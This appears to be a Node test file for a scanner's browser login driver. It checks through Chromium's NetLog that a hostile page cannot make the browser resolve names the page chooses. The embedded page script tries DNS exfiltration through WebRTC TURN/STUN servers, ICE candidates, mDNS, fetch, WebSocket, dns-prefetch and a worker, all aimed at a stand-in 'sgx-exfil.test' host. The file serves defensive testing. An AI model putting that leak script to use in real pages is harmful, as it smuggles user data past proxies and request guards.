// r23u H1: a page makes Chromium resolve names it chooses (a WebRTC TURN or STUN server, a remote ICE
// candidate, a `.local` name), and a label can carry what the user typed: the question leaves through
// the system resolver or by multicast on the LAN, past the request guard and the scan's proxy. Chromium's
// own NetLog shows every host-resolver job, so the test needs no packet capture: none may name a host
// the page chose, from the login page or from the screenshot check page.
import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { resolveConfig } from '@sessionguard/scanner'
import { HttpEngine } from '../../src/http/client.js'
import { Redactor } from '../../src/http/redact.js'
import { Scope } from '../../src/http/scope.js'
import { BrowserLoginDriver } from '../../src/login/browser/driver.js'
import { takeScreenshot } from '../../src/login/browser/screenshot.js'
import { engineOptions } from '../engine/engine-options.js'
import { markChromiumOfThisFile } from './processes.js'

markChromiumOfThisFile()

/** Every way a page can make Chromium resolve a name; WebRTC's taken from a fresh frame when the page's own is gone. */
function hostilePage(tag: string): string {
  const sdp =
    'v=0\\r\\no=- 1 2 IN IP4 127.0.0.1\\r\\ns=-\\r\\nt=0 0\\r\\na=group:BUNDLE 0\\r\\nm=application 9 UDP/DTLS/SCTP webrtc-datachannel\\r\\nc=IN IP4 0.0.0.0\\r\\na=ice-ufrag:abcd\\r\\na=ice-pwd:abcdefghijklmnopqrstuvwx\\r\\na=fingerprint:sha-256 ' +
    Array(32).fill('AA').join(':') +
    '\\r\\na=setup:active\\r\\na=mid:0\\r\\na=sctp-port:5000\\r\\n'
  return `<!doctype html><html><head><title>Sign in</title></head><body><p>Signed in as alice</p><script>
const tag = ${JSON.stringify(tag)}
function peer() {
  if (window.RTCPeerConnection) return window.RTCPeerConnection
  const f = document.createElement('iframe')
  document.body.append(f)
  return f.contentWindow.RTCPeerConnection || f.contentWindow.webkitRTCPeerConnection
}
async function leak() {
  const PC = peer()
  if (PC) {
    const p = new PC({ iceServers: [{ urls: 'turn:' + tag + '.turn.sgx-exfil.test:3478?transport=tcp', username: 'u', credential: 'c' }, { urls: 'stun:' + tag + '.stun.sgx-exfil.test:3478' }] })
    p.createDataChannel('x')
    await p.setLocalDescription(await p.createOffer())
    await p.setRemoteDescription({ type: 'answer', sdp: '${sdp}' }).catch(() => {})
    for (const host of [tag + '.local', tag + '.cand.sgx-exfil.test'])
      await p.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 ' + host + ' 5000 typ host', sdpMid: '0' }).catch(() => {})
  }
  fetch('http://' + tag + '.fetch.sgx-exfil.test/').catch(() => {})
  try { new WebSocket('ws://' + tag + '.ws.sgx-exfil.test/') } catch {}
  const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + tag + '.prefetch.sgx-exfil.test'; document.head.append(l)
  new Worker(URL.createObjectURL(new Blob(["fetch('http://" + tag + ".worker.sgx-exfil.test/').catch(() => {})"])))
  navigator.serviceWorker?.register('/sw.js').catch(() => {})
  setTimeout(() => { document.title = 'done ' + (PC ? 'with WebRTC' : 'without WebRTC') }, 1500)
}
leak().catch((e) => { document.title = 'done ' + e })
</script></body></html>`
}

/** The resolver's jobs in a NetLog: each event of a host-resolver, DNS or mDNS kind, with its parameters. */
function resolverEvents(file: string): string[] {
  let text = readFileSync(file, 'utf8').trim()
  // a log Chromium did not close is a JSON prefix: close its event list
  if (!text.endsWith('}')) text = `${text.replace(/,?\s*$/, '')}]}`
  const log = JSON.parse(text) as {
    constants: { logEventTypes: Record<string, number> }
    events: Array<{ type: number; params?: unknown }>
  }
  const names = new Map(Object.entries(log.constants.logEventTypes).map(([k, v]) => [v, k]))
  return log.events
    .map((e) => `${names.get(e.type)} ${JSON.stringify(e.params ?? {})}`)
    .filter((line) => /^(HOST_RESOLVER|DNS|MDNS)/.test(line))
}

describe('the browser resolves no name a page chooses', () => {
  const dir = mkdtempSync(join(tmpdir(), 'sg-resolver-'))
  const netlog = join(dir, 'net.json')
  const tag = `sgx${randomUUID().slice(0, 8)}`
  let server: Server
  let target = ''
  const closers: Array<() => Promise<unknown>> = []
  before(async () => {
    server = createServer((req, res) => {
      res.setHeader('content-type', 'text/html; charset=utf-8')
      res.end(hostilePage(tag))
    })
    await new Promise<void>((ok) => server.listen(0, '127.0.0.1', () => ok()))
    const addr = server.address()
    target = `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}`
  })
  after(async () => {
    for (const close of closers.reverse()) await close().catch(() => undefined)
    await new Promise<void>((ok) => server.close(() => ok()))
    rmSync(dir, { recursive: true, force: true })
  })

  test('WebRTC server and candidate names, a fetch, a WebSocket, a dns-prefetch and a worker from the login page and the check page: no resolver job names them', async () => {
    // the operator's browser, with Chromium's NetLog written to a file
    const chromiumPath = process.env.SESSIONGUARD_BROWSER || (existsSync('/usr/bin/chromium') ? '/usr/bin/chromium' : 'chromium')
    const wrapper = join(dir, 'chromium-netlog')
    writeFileSync(wrapper, `#!/bin/sh\nexec ${JSON.stringify(chromiumPath)} --log-net-log=${JSON.stringify(netlog)} "$@"\n`)
    chmodSync(wrapper, 0o755)
    const scope = new Scope(target)
    const http = new HttpEngine(scope, engineOptions({ budgetMs: 120_000 }))
    closers.push(() => http.close())
    const config = resolveConfig({
      target,
      login: {
        type: 'browser',
        page: '/login',
        credentials: { username: 'alice', password: 'x' },
        check: { url: '/account', contains: 'Signed in as alice' },
      },
      scope: { timeout: '20s', budget: '120s' },
    })
    const driver = new BrowserLoginDriver(config, scope, http, wrapper)
    closers.push(() => driver.close())
    const session = { jar: { entries: () => [], forBrowser: () => [] }, carry: [] } as never
    const { context, page } = await driver.open(session, { login: true })
    await page.goto(`${target}/login`)
    await page.waitForFunction(() => document.title.startsWith('done'), null, { timeout: 20_000 })
    const loginTitle = await page.title()
    await context.close()
    const shot = await takeScreenshot(
      driver,
      { actor: 'attacker', request: { method: 'GET', url: `${target}/account`, headers: {} } },
      undefined,
      config.login!,
      new Redactor(),
      target,
    )
    await driver.close()
    const jobs = resolverEvents(netlog)
    assert.ok(jobs.length > 0, 'the NetLog holds no resolver event at all: it was not written')
    const named = jobs.filter((j) => j.includes(tag))
    assert.deepEqual(
      named,
      [],
      `resolver jobs for page-chosen names (login page: ${loginTitle}; check page: ${typeof shot === 'string' ? shot : 'picture'})`,
    )
    // and nothing but the target and 0.0.0.0 (where every other name is mapped) was asked for
    const hosts = new Set(jobs.flatMap((j) => [...j.matchAll(/"host(?:name)?":"(?:[a-z]+:\/\/)?([^"/:]+)/g)].map((m) => m[1])))
    for (const h of hosts) assert.ok(h === '127.0.0.1' || h === '0.0.0.0', `a resolver job for ${h}`)
  })
})
